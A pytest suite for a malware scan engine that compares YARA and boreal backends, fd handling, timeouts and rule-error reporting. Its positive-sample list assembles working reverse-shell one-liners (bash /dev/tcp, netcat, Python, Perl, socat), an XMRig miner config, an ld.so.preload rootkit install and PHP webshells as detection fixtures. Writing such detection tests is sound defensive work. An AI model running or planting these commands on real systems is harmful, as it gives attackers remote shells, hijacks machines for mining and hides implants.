"""Scan engine: both backends over the bundled rules and crafted samples, rule errors, fd handling.

Malicious-looking samples are assembled at run time from pieces so that this source file itself
never matches a rule (the repo may sit on a watched filesystem).
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scanner import engine
from scanner.engine import (
    BACKENDS,
    Match,
    RuleError,
    RuleProblem,
    ScanError,
    ScanTimeout,
    check_rules,
    compile_rules,
)

REPO = Path(__file__).resolve().parent.parent
RULES = REPO / "rules"

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
assert len(EICAR) == 68


def j(*parts: str) -> bytes:
    """Join pieces: keeps whole signatures out of this file's text."""
    return "".join(parts).encode()


def fake_elf(body: bytes, size: int | None = None, tail: bytes = b"") -> bytes:
    hdr = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
    data = hdr + b"\0" * (0x40 - len(hdr)) + body
    if size is not None:
        data += b"\0" * (size - len(data) - len(tail))
    return data + tail


def upx_elf(size: int = 8192) -> bytes:
    # Layout as UPX writes it: l_info ("UPX!" right after the program headers) ... pack header
    # with "UPX!" again in the last bytes. Offsets taken from a real `upx` output.
    body = b"\0" * (0xEC - 0x40) + b"\x11\x22\x33\x44" + b"UPX!" + b"\x0d\x16\x08\x00"
    tail = b"UPX!" + b"\x0d\x16\x08\x00" + b"\0" * 24
    return fake_elf(body, size, tail)


# (sample id, bytes, expected rule names)
POSITIVE = [
    ("eicar", EICAR, {"EICAR_Test_File"}),
    ("eicar_newline", EICAR + b"\n", {"EICAR_Test_File"}),
    ("eicar_crlf_ctrlz", EICAR + b"\r\n\x1a", {"EICAR_Test_File"}),
    ("eicar_128", EICAR + b" " * 60, {"EICAR_Test_File"}),
    ("bash_devtcp", j("#!/bin/bash\nbash -i >& /dev/", "tcp/10.0.0.1/4242 0>&1\n"),
     {"Linux_ReverseShell_Bash_DevTcp"}),
    ("sh_devudp", j("sh -i >& /dev/", "udp/evil.example.net/53 0>&1"),
     {"Linux_ReverseShell_Bash_DevTcp"}),
    ("bash_exec_fd", j("exec 5<>/dev/", "tcp/10.0.0.1/4242\n",
                       "cat <&5 | while read line; do $line 2>&5 >&5; done\n"),
     {"Linux_ReverseShell_Bash_DevTcp"}),
    ("nc_e", j("#!/bin/sh\nnc -e /bin", "/sh 10.0.0.1 4242\n"), {"Linux_ReverseShell_Netcat_Exec"}),
    ("ncat_e_after", j("ncat 10.0.0.1 4242 -e /bin", "/bash\n"), {"Linux_ReverseShell_Netcat_Exec"}),
    ("nc_fifo", j("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1", "|nc 10.0.0.1 4242 >/tmp/f\n"),
     {"Linux_ReverseShell_Netcat_Exec"}),
    ("python", j("python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);",
                 's.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);',
                 'os.dup2(s.fileno(),2);pty.spawn("/bin/', "sh\")'\n"),
     {"Linux_ReverseShell_Python"}),
    ("python_subprocess", j("import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n",
                            's.connect(("10.0.0.1",4242))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\n',
                            'os.dup2(s.fileno(),2)\np=subprocess.call(["/bin/', 'sh","-i"])\n'),
     {"Linux_ReverseShell_Python"}),
    ("perl", j("perl -e 'use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));",
               'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");',
               'open(STDERR,">&S");exec("/bin/', "sh -i\");};'\n"),
     {"Linux_ReverseShell_Perl"}),
    ("socat_net_first", j("socat tcp-connect:10.0.0.1:4242 exec:/bin/", "sh,pty,stderr,setsid,sigint,sane\n"),
     {"Linux_ReverseShell_Socat_Exec"}),
    ("socat_exec_first", j("socat exec:'bash -li',pty,stderr,setsid,sigint,sane ", "tcp:10.0.0.1:4242\n"),
     {"Linux_ReverseShell_Socat_Exec"}),
    ("miner_config", j('{\n  "autosave": true,\n  "cpu": {"enabled": true},\n  "donate-level": 1,\n',
                       '  "pools": [{"algo": "rx/0", "url": "stratum+', 'tcp://pool.example.com:3333",\n',
                       '             "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"}]\n}\n'),
     {"Linux_Miner_Config"}),
    ("miner_cmdline", j("#!/bin/sh\n./xmrig -o stratum+", "tcp://pool.example.com:3333 ",
                        "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3X --donate-level 1 -B\n"),
     {"Linux_Miner_CommandLine"}),
    ("xmrig_elf", fake_elf(j("\0XMRig 6.21.0\0stratum+", "tcp://\0donate-level\0donate.v2.xmrig.com\0",
                             "RandomX\0cryptonight\0"), 16384),
     {"Linux_Miner_XMRig_ELF"}),
    ("upx_elf", upx_elf(), {"Linux_Packed_UPX_ELF"}),
    ("upx_elf_info", fake_elf(b"\0" * 0xB0 + b"UPX!" + b"\0" * 64 + j("$Info: This file is packed with ",
                                                                       "the UPX executable packer $\n"), 4096),
     {"Linux_Packed_UPX_ELF"}),
    ("ld_preload", j("#!/bin/sh\ncp libhide.so /usr/local/lib/\necho /usr/local/lib/libhide.so ",
                     "> /etc/ld.so.", "preload\n"),
     {"Linux_Rootkit_LdSoPreload_Install"}),
    ("ld_preload_tee", j("echo /lib/x86_64-linux-gnu/libz3.so | sudo tee -a /etc/ld.so.", "preload\n"),
     {"Linux_Rootkit_LdSoPreload_Install"}),
    ("php_eval", j("<?php @ev", "al($_POST['x']); ?>\n"), {"Webshell_PHP_Eval_Request"}),
    ("php_eval_b64", j("<?php ev", "al(base64_decode($_REQUEST['c'])); ?>"), {"Webshell_PHP_Eval_Request"}),
    ("php_system", j("<?php if(isset($_GET['cmd'])) { sys", "tem($_GET['cmd']); } ?>"),
     {"Webshell_PHP_Eval_Request"}),
]

# Near misses: each shares a piece with a rule but is ordinary content.
NEGATIVE = [
    ("empty", b""),
    ("eicar_129", EICAR + b" " * 61),
    ("eicar_trailing_text", EICAR + b"\nhello"),
    ("eicar_not_at_start", b" " + EICAR),
    ("bash_doc", b"Bash can open /dev/tcp/host/port as a socket; run bash -i for an interactive shell.\n"),
    ("bash_http", b"exec 3<>/dev/tcp/example.com/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n"),
    ("nc_probe", b"nc -z -w 2 db.internal 5432 && echo up\nnc -l 8080 < index.html\n"),
    ("python_client", b"import socket\ns = socket.socket()\ns.connect((host, 80))\ns.sendall(b'hi')\n"),
    ("python_pty", b"import os, pty\nos.dup2(fd.fileno(), 0)\nos.dup2(fd.fileno(), 1)\npty.spawn('/bin/" + b"sh')\n"),
    ("python_far_apart", b"import socket, os, pty\ns = socket.socket()\ns.connect((host, 22))\n" + b"#" * 400
     + b"\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n" + b"#" * 400 + b"\npty.spawn('/bin/" + b"sh')\n"),
    ("perl_client", b"use Socket;\nsocket(S, PF_INET, SOCK_STREAM, 0);\nconnect(S, sockaddr_in($p, $a));\nprint S 'x';\n"),
    ("socat_proxy", b"socat TCP-LISTEN:8080,fork TCP:backend.internal:80\n"),
    ("stratum_doc", b"Pools use URLs like stratum+tcp://pool.example.com:3333 for mining.\n"),
    ("json_pools", b'{"pools": [{"url": "https://example.com"}], "user": "x", "algo": "sha256"}\n'),
    ("elf_upx_late", fake_elf(b"\0" * 4096 + b"UPX!", 8192, b"UPX!" + b"\0" * 28)),
    ("not_elf_upx", b"UPX!" * 4 + b"$Info: This file is packed with the UPX executable packer"),
    ("ld_preload_read", b"if [ -s /etc/ld.so.preload ]; then cat /etc/ld.so.preload; fi\n"),
    ("php_plain", b"<?php echo htmlspecialchars($_GET['q']); eval('return 1;'); ?>\n"),
]

POS_IDS = [p[0] for p in POSITIVE]
NEG_IDS = [n[0] for n in NEGATIVE]


@pytest.fixture(scope="module", params=BACKENDS)
def ruleset(request):
    return compile_rules([RULES], backend=request.param)


@pytest.fixture(scope="module")
def both():
    return {b: compile_rules([RULES], backend=b) for b in BACKENDS}


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    p = tmp_path / name
    p.write_bytes(data)
    return p


def scan_file(rs, path: Path, timeout: float = 10):
    fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
    try:
        return rs.match_fd(fd, timeout)
    finally:
        os.close(fd)


# --------------------------------------------------------------------------- bundled rules


def test_bundled_rules_compile_with_metadata(ruleset):
    assert ruleset.backend in BACKENDS
    assert ruleset.rule_count == 12
    assert ruleset.warnings == ()
    names = set()
    for ns, name, meta in ruleset.rules():
        names.add(name)
        assert ns == Path(ruleset.namespaces[ns]).stem
        assert meta["author"] == "onaccess"
        assert meta["description"]
        assert meta["severity"] in {"low", "medium", "high", "critical"}
    # every bundled rule has at least one positive sample in this file
    assert names == set().union(*(p[2] for p in POSITIVE))


def test_digest_same_for_both_backends_and_tracks_content(both, tmp_path):
    assert both["yara"].digest == both["boreal"].digest
    d = tmp_path / "r"
    d.mkdir()
    (d / "a.yar").write_text('rule a { strings: $a = "abc" condition: $a }\n')
    first = compile_rules([d]).digest
    assert compile_rules([d]).digest == first
    (d / "a.yar").write_text('rule a { strings: $a = "abd" condition: $a }\n')
    assert compile_rules([d]).digest != first


@pytest.mark.parametrize("sample", POSITIVE, ids=POS_IDS)
def test_positive_sample_through_fd(ruleset, tmp_path, sample):
    name, data, expected = sample
    res = scan_file(ruleset, write(tmp_path, name, data))
    assert {m.rule for m in res.matches} == expected
    assert res.dangerous
    m = res.matches[0]
    assert m.meta["author"] == "onaccess" and isinstance(m.meta["severity"], str)
    assert res.rule_names == tuple(f"{m.namespace}.{m.rule}" for m in res.matches)


@pytest.mark.parametrize("sample", NEGATIVE, ids=NEG_IDS)
def test_negative_sample_through_fd(ruleset, tmp_path, sample):
    name, data = sample
    res = scan_file(ruleset, write(tmp_path, name, data))
    assert res.matches == () and not res.dangerous


def test_backends_give_identical_matches(both, tmp_path):
    assert both["yara"].rules() == both["boreal"].rules()
    for name, data, _ in POSITIVE:
        p = write(tmp_path, name, data)
        ry, rb = scan_file(both["yara"], p), scan_file(both["boreal"], p)
        assert ry == rb, name
        assert ry.matches  # a real comparison, not two empty lists
    for name, data in NEGATIVE:
        p = write(tmp_path, name, data)
        assert scan_file(both["yara"], p) == scan_file(both["boreal"], p) == engine.ScanResult(())


def test_meta_normalised_identically(tmp_path):
    f = tmp_path / "m.yar"
    f.write_bytes(
        b'rule m : t1 t2 { meta: s = "h\xc3\xa9llo \\x41" bad = "a\\xffb" nul = "ab\\x00cd" '
        b"n = -5 b = false d = \"x\" d = \"y\" condition: true }\n"
    )
    res = {b: compile_rules([f], b).match_bytes(b"x") for b in BACKENDS}
    assert res["yara"] == res["boreal"]
    (m,) = res["yara"].matches
    assert m == Match("m", "m", ("t1", "t2"), {"s": "héllo A", "bad": "ab", "nul": "ab", "n": -5, "b": False, "d": "y"})
    assert hash(m) == hash(res["boreal"].matches[0])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=st.sampled_from([b"", EICAR, b"\x7fELF", b"<?php "]), data=st.binary(max_size=600))
def test_random_data_same_verdict_on_both_backends(both, prefix, data):
    blob = prefix + data
    assert both["yara"].match_bytes(blob) == both["boreal"].match_bytes(blob)


# --------------------------------------------------------------------------- fd handling


def test_eicar_with_newline_through_fd_both_backends(both, tmp_path):
    p = write(tmp_path, "eicar.com", EICAR + b"\n")
    for rs in both.values():
        assert scan_file(rs, p).rule_names == ("eicar.EICAR_Test_File",)


def test_empty_file(ruleset, tmp_path):
    p = write(tmp_path, "empty", b"")
    assert scan_file(ruleset, p).matches == ()
    assert ruleset.match_path(p).matches == ()


def test_match_fd_leaves_offset_alone(ruleset, tmp_path):
    small = write(tmp_path, "small", EICAR)
    big = write(tmp_path, "big", upx_elf(engine.MMAP_MIN_SIZE + 8192))  # mmap path for yara
    for p in (small, big):
        fd = os.open(p, os.O_RDONLY)
        try:
            os.lseek(fd, 17, os.SEEK_SET)
            assert ruleset.match_fd(fd, 5).dangerous
            assert os.lseek(fd, 0, os.SEEK_CUR) == 17
        finally:
            os.close(fd)


def test_large_file_same_result_as_small(ruleset, tmp_path):
    # Above MMAP_MIN_SIZE yara scans a mapping, below it a pread copy: same verdicts.
    for size in (8192, engine.MMAP_MIN_SIZE - 1, engine.MMAP_MIN_SIZE, 3 * engine.MMAP_MIN_SIZE + 5):
        p = write(tmp_path, f"upx{size}", upx_elf(size))
        assert scan_file(ruleset, p).rule_names == ("packed_elf.Linux_Packed_UPX_ELF",), size
        clean = write(tmp_path, f"clean{size}", fake_elf(b"", size))
        assert scan_file(ruleset, clean).matches == ()


def test_mmap_refused_falls_back_to_reading(ruleset, tmp_path, monkeypatch):
    # Some filesystems cannot mmap (ENODEV): the big-file path must still scan.
    p = write(tmp_path, "big", upx_elf(engine.MMAP_MIN_SIZE + 4096))

    def no_mmap(*a, **kw):
        raise OSError(19, "No such device")

    monkeypatch.setattr(engine.mmap, "mmap", no_mmap)
    assert scan_file(ruleset, p).rule_names == ("packed_elf.Linux_Packed_UPX_ELF",)


def test_match_fd_does_not_reopen_by_path(ruleset, tmp_path):
    p = write(tmp_path, "swap.com", EICAR)
    fd = os.open(p, os.O_RDONLY)
    try:
        p.unlink()
        p.write_bytes(b"clean content\n")  # a different inode under the same name
        assert scan_file(ruleset, p).matches == ()
        assert ruleset.match_fd(fd, 5).rule_names == ("eicar.EICAR_Test_File",)
        os.rename(write(tmp_path, "other", b"also clean"), p)
        assert ruleset.match_fd(fd, 5).rule_names == ("eicar.EICAR_Test_File",)
    finally:
        os.close(fd)


def test_fifo_refused_without_blocking(ruleset, tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    outcome: list[object] = []

    def run():
        try:
            ruleset.match_path(fifo)
            outcome.append("scanned")
        except ScanError as e:
            outcome.append(e)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(5)
    assert not t.is_alive(), "match_path blocked on a FIFO"
    assert isinstance(outcome[0], ScanError) and "regular" in str(outcome[0])
    # and an fd to a FIFO (as fanotify could hand over) is refused too
    fd = os.open(fifo, os.O_RDWR | os.O_NONBLOCK)
    try:
        with pytest.raises(ScanError, match="regular"):
            ruleset.match_fd(fd, 1)
    finally:
        os.close(fd)


def test_match_path_refuses_symlink_dir_missing(ruleset, tmp_path):
    target = write(tmp_path, "t.com", EICAR)
    link = tmp_path / "link"
    link.symlink_to(target)
    with pytest.raises(ScanError, match="symbolic link|regular"):
        ruleset.match_path(link)
    with pytest.raises(ScanError, match="regular"):
        ruleset.match_path(tmp_path)
    with pytest.raises(ScanError, match="No such file"):
        ruleset.match_path(tmp_path / "missing")
    with pytest.raises(ScanError, match="regular"):
        ruleset.match_path("/dev/null")


def test_non_utf8_file_name(ruleset, tmp_path):
    raw = os.fsencode(tmp_path) + b"/bad-\xff\xfe-name.com"
    with open(raw, "wb") as f:
        f.write(EICAR)
    assert ruleset.match_path(raw).rule_names == ("eicar.EICAR_Test_File",)
    as_str = os.fsdecode(raw)  # surrogate-escaped str, as os.listdir/Path give it
    assert ruleset.match_path(as_str).dangerous
    assert ruleset.match_path(Path(as_str)).dangerous


def test_match_fd_bad_fd(ruleset):
    r, w = os.pipe()
    os.close(r)
    os.close(w)
    with pytest.raises(ScanError):
        ruleset.match_fd(r, 1)


def test_short_read_is_scan_error(ruleset, tmp_path, monkeypatch):
    # The file is truncated between fstat and the read (pread path; boreal always uses it).
    p = write(tmp_path, "shrink", upx_elf(8192))
    real_pread = os.pread

    def truncating_pread(fd, n, off):
        os.truncate(p, 100)
        return real_pread(fd, n, off)

    monkeypatch.setattr(engine.os, "pread", truncating_pread)
    with pytest.raises(ScanError, match="shrank"):
        scan_file(ruleset, p)


TRUNCATE_SCRIPT = textwrap.dedent(
    """
    import os, sys, threading, time
    from pathlib import Path
    from scanner.engine import compile_rules, ScanError
    d = Path(sys.argv[1]); backend = sys.argv[2]
    (d / "slow.yar").write_text(
        "rule slow { condition: for all i in (0..filesize-1) : (uint8(i) == 0x61) }\\n")
    rs = compile_rules([d / "slow.yar"], backend)
    p = d / "big.bin"
    p.write_bytes(b"a" * (64 << 20))
    fd = os.open(p, os.O_RDONLY)
    def cut():
        time.sleep(0.3)
        os.truncate(p, 0)
    threading.Thread(target=cut).start()
    t = time.monotonic()
    try:
        rs.match_fd(fd, 60)
        print("finished", time.monotonic() - t)
    except ScanError as e:
        print("scanerror", time.monotonic() - t, e)
    """
)


def test_truncation_while_mapped_is_scan_error_not_sigbus(tmp_path):
    # libyara scans the mmap'ed file; truncating it mid-scan raises SIGBUS inside the scan.
    # Run in a child so a crash shows up as a failure instead of killing pytest.
    proc = subprocess.run(
        [sys.executable, "-X", "faulthandler", "-c", TRUNCATE_SCRIPT, str(tmp_path), "yara"],
        capture_output=True, text=True, timeout=120, cwd=REPO,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("scanerror"), proc.stdout
    assert "could not map" in proc.stdout


# --------------------------------------------------------------------------- timeouts, threads

SLOW_RULE = (
    "rule quadratic { condition: for any i in (0..filesize-1) : "
    "( for any j in (0..filesize-1) : ( uint16(i) == uint16(j) + 1 ) ) }\n"
)


@pytest.fixture(scope="module", params=BACKENDS)
def slow(request, tmp_path_factory):
    d = tmp_path_factory.mktemp("slow")
    (d / "slow.yar").write_text(SLOW_RULE)
    return compile_rules([d / "slow.yar"], request.param)


def test_timeout_maps_to_scan_timeout(slow):
    # 2^32 condition iterations: minutes of work; both backends check their clock inside loops.
    data = b"a" * 65536
    t = time.monotonic()
    with pytest.raises(ScanTimeout):
        slow.match_bytes(data, timeout=0.2)  # rounded up to the backends' 1 s minimum
    elapsed = time.monotonic() - t
    assert 0.9 <= elapsed < 5, elapsed
    assert issubclass(ScanTimeout, ScanError)


def test_backend_timeout_rounding():
    assert engine._backend_timeout(None) is None
    assert engine._backend_timeout(0.01) == 1
    assert engine._backend_timeout(1.0) == 1
    assert engine._backend_timeout(1.2) == 2


def test_scan_releases_the_gil(slow):
    # While one thread is inside a ~1 s scan, another must keep running Python code.
    ticks = 0
    done = threading.Event()

    def scan():
        try:
            slow.match_bytes(b"a" * 65536, timeout=1)
        except ScanTimeout:
            pass
        done.set()

    t = threading.Thread(target=scan)
    t.start()
    time.sleep(0.05)
    start = time.monotonic()
    while not done.is_set():
        ticks += 1
        time.sleep(0.001)
    t.join()
    elapsed = time.monotonic() - start
    assert elapsed > 0.5
    # ~1 tick per ms if free; a held GIL would give at most a handful (the switch interval).
    assert ticks > 0.3 * elapsed * 1000, (ticks, elapsed)


def test_concurrent_scans_share_a_ruleset(ruleset, tmp_path):
    paths = []
    for i, (name, data, expected) in enumerate(POSITIVE):
        paths.append((write(tmp_path, f"{i}-{name}", data), expected))
    errors: list[str] = []

    def worker(k):
        for _ in range(20):
            for p, expected in paths[k::4]:
                got = {m.rule for m in scan_file(ruleset, p).matches}
                if got != expected:
                    errors.append(f"{p}: {got}")

    ts = [threading.Thread(target=worker, args=(k,)) for k in range(4)]
    [t.start() for t in ts]
    [t.join(60) for t in ts]
    assert errors == []


# --------------------------------------------------------------------------- rule errors

GOOD = 'rule good { strings: $a = "abc" condition: $a }\n'
# A dangling "and": both backends report the unexpected "}" on line 5.
BROKEN = "rule ok { condition: true }\n\nrule broken {\n  condition: true and\n}\n"


@pytest.mark.parametrize("backend", BACKENDS)
def test_broken_rule_reports_file_and_line(tmp_path, backend):
    (tmp_path / "good.yar").write_text(GOOD)
    (tmp_path / "bad.yara").write_text(BROKEN)
    (tmp_path / "notes.txt").write_text("not a rule file {")
    with pytest.raises(RuleError) as ei:
        compile_rules([tmp_path], backend)
    (problem,) = ei.value.problems
    assert problem.file == str(tmp_path / "bad.yara")
    assert problem.line == 5
    assert "syntax error" in problem.message
    assert str(ei.value) == f"{tmp_path / 'bad.yara'}:5: {problem.message}"
    assert check_rules([tmp_path], backend) == [problem]


@pytest.mark.parametrize("backend", BACKENDS)
def test_all_broken_files_reported(tmp_path, backend):
    (tmp_path / "a.yar").write_text(BROKEN)
    (tmp_path / "b.yar").write_text('rule x {\n  strings: $a = "x"\n  condition: $a and $nope\n}\n')
    (tmp_path / "c.yar").write_bytes(b'rule c {\n  meta: d = "\xff"\n  condition: true }\n')
    (tmp_path / "d.yar").write_text(GOOD)
    problems = check_rules([tmp_path], backend)
    by_file = {Path(p.file).name: p for p in problems}
    assert sorted(by_file) == ["a.yar", "b.yar", "c.yar"]
    assert by_file["a.yar"].line == 5
    assert by_file["b.yar"].line in (3, 4)  # yara points at the end of the condition
    assert "$nope" in by_file["b.yar"].message
    assert by_file["c.yar"] == RuleProblem(str(tmp_path / "c.yar"), 2, "rule file is not valid UTF-8")
    with pytest.raises(RuleError) as ei:
        compile_rules([tmp_path], backend)
    assert ei.value.problems == problems
    assert len(str(ei.value).splitlines()) == 3


@pytest.mark.parametrize("backend", BACKENDS)
def test_empty_and_missing_rule_paths(tmp_path, backend):
    with pytest.raises(RuleError, match="no rule files"):
        compile_rules([tmp_path], backend)
    with pytest.raises(RuleError, match="no rule files"):
        compile_rules([], backend)
    with pytest.raises(RuleError, match="no such file"):
        compile_rules([tmp_path / "missing"], backend)
    (tmp_path / "nul.yar").write_bytes(b"rule a {\n condition: true\0 }\n")
    (p,) = check_rules([tmp_path], backend)
    assert (p.line, p.message) == (2, "NUL byte in rule file")


@pytest.mark.parametrize("backend", BACKENDS)
def test_unreadable_and_odd_rule_paths(tmp_path, backend):
    d = tmp_path / "rules"
    d.mkdir()
    (d / "a.yar").write_text(GOOD)
    (d / "notes.txt").write_text("ignored: not a rule file name")
    rs = compile_rules([d], backend)
    assert [f.name for f in rs.files] == ["a.yar"]
    # Rule-named entries that are not regular files are reported, never read (a FIFO would
    # block); root reads through permission bits, but /proc/self/clear_refs refuses reads.
    os.mkfifo(d / "fifo.yar")
    os.symlink(d / "nowhere.yar", d / "dangling.yar")
    os.symlink("/proc/self/clear_refs", d / "unreadable.yar")
    problems = check_rules([d], backend)
    assert [(Path(p.file).name, p.line) for p in problems] == [
        ("dangling.yar", None), ("fifo.yar", None), ("unreadable.yar", None)]
    assert "dangling" in problems[0].message
    assert "not a regular file" in problems[1].message
    assert "cannot read" in problems[2].message
    with pytest.raises(RuleError):
        compile_rules([d], backend)
    assert check_rules([d / "fifo.yar", d / "a.yar"], backend)[0].message == "not a regular file"


def test_includes_refused(tmp_path):
    (tmp_path / "inc.yar").write_text('include "other.yar"\nrule a { condition: true }\n')
    for backend in BACKENDS:
        (p,) = check_rules([tmp_path], backend)
        assert p.line == 1 and "include" in p.message


def test_same_stem_gets_distinct_namespaces(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir(), b.mkdir()
    (a / "eicar.yar").write_text('rule one { strings: $a = "abc" condition: $a }\n')
    (b / "eicar.yar").write_text('rule one { strings: $a = "abc" condition: $a }\n')
    for backend in BACKENDS:
        rs = compile_rules([a, b, a / "eicar.yar"], backend)  # the repeated file counts once
        assert len(rs.files) == 2
        assert rs.match_bytes(b"xxabc").rule_names == ("eicar.one", "eicar~2.one")


def test_unknown_backend():
    with pytest.raises(ValueError, match="unknown scan backend"):
        compile_rules([RULES], "clamav")
